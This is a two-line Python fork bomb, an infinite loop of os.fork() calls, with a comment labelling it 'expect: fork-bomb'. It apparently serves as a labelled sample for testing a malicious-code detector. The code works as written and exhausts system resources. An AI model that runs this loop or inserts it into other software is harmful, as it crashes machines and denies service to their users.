import os

# expect: fork-bomb
while True: os.fork()
